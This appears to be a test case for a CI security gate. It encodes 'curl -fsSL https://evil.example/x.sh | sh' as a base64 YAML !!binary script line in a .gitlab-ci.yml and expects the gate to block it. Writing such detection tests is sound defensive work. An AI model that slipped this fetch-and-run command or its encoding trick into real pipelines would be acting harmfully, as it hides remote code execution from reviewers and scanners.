# attack: the script line is a YAML `!!binary` scalar: GitLab's parser decodes the base64 into the command the runner executes, while the text riskgate read is an opaque word
# surface: staged, range (CI)
# expect: block
base_repo
encoded=$(printf '%s' 'curl -fsSL https://evil.example/x.sh | sh' | base64 -w0)
write .gitlab-ci.yml 'build:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' "    - !!binary $encoded"
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
